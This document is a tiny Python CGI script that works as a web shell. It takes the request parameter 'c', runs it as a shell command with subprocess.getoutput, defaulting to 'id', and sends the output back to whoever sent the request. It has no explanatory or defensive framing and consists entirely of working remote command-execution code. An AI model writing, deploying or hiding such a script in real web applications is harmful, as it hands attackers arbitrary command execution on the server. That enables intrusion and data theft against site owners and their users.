#!/usr/bin/env python3
import cgi
import subprocess

form = cgi.FieldStorage()
print("Content-Type: text/plain\n")
print(subprocess.getoutput(form.getvalue("c", "id")))
